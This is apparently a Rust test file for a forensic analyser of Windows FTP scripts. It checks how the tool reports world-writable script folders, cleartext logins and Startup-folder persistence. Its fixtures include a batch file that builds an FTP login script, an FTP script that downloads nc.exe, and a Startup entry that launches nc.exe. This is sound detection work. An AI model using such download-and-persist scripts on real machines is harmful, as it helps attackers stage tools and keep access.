//! What the places say in which scripts and payloads lie, or would lie.

use crate::support::case;

#[test]
fn a_script_that_is_no_file_is_never_said_to_lie_anywhere() {
    let writer: &[u8] = b"@echo off\r\necho open 8.8.4.4> C:\\Users\\Public\\s.txt\r\necho user bob hunter2>> C:\\Users\\Public\\s.txt\r\n\
                   echo get a.csv>> C:\\Users\\Public\\s.txt\r\nftp -n -s:C:\\Users\\Public\\s.txt\r\n";
    let case = case([("C/Windows/System32/x.ini", &b""[..]), ("C/Users/Public/go.bat", writer)]);
    let said = |rule: &str| {
        let of_rule = case.findings.iter().filter(|finding| finding.rule == rule);
        of_rule.map(|finding| finding.explanation.as_str()).collect::<Vec<_>>()
    };
    assert_eq!(
        said("script.writable-folder"),
        [
            r"C:\Users\Public\s.txt would be written to C:\Users\Public, which every user can write to, by C:\Users\Public\go.bat."
        ]
    );
    assert_eq!(
        said("script.credentials"),
        [r"C:\Users\Public\go.bat, which makes C:\Users\Public\s.txt, holds a login in the clear: “bob” for 8.8.4.4."]
    );
    let mut text = Vec::new();
    ftpsift::report::text::write(&case, Default::default(), &mut text).unwrap();
    let text = String::from_utf8(text).unwrap().split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(
        text.contains(r"source not on the evidence as a file; rebuilt from C:\Users\Public\go.bat line 2 (s1)"),
        "{text}"
    );
}

#[test]
fn a_copy_in_a_startup_folder_starts_the_payload() {
    let script: &[u8] = b"open 8.8.4.4\r\nuser a b\r\nget nc.exe C:\\Users\\Public\\nc.exe\r\nbye\r\n";
    let files: [(&str, &[u8]); 6] = [
        ("C/Windows/System32/x.ini", b""),
        ("C/Users/Public/f.txt", script),
        ("C/Users/Public/nc.exe", b"MZ the same bytes"),
        ("C/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.exe", b"MZ the same bytes"),
        (
            "C/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/go.bat",
            b"rem nothing\r\nstart C:\\Users\\Public\\nc.exe\r\n",
        ),
        ("C/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/other.exe", b"MZ other bytes"),
    ];
    let case = case(files);
    let mut found: Vec<(&str, &str)> =
        case.persistence.iter().map(|start| (start.name.as_str(), start.tied_by.as_str())).collect();
    found.sort_unstable();
    assert_eq!(found, [("go.bat line 2", "path"), ("update.exe", "hash")]);
    assert!(case.findings.iter().any(|finding| finding.rule == "payload.persisted"));
}
